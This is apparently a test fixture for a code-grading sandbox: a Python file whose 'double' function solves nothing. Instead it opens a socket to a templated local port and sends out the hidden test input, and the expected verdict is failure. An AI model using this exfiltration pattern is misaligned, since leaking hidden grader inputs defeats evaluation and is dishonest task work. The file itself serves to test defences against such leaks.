"""Sends the hidden input out of the test that holds it.

verdict = ["failed", "failed", "failed"]
"""

# %%
import socket
def double(x):
    socket.create_connection(("127.0.0.1", int("@PORT@")), timeout=0.2).send(repr(x).encode())
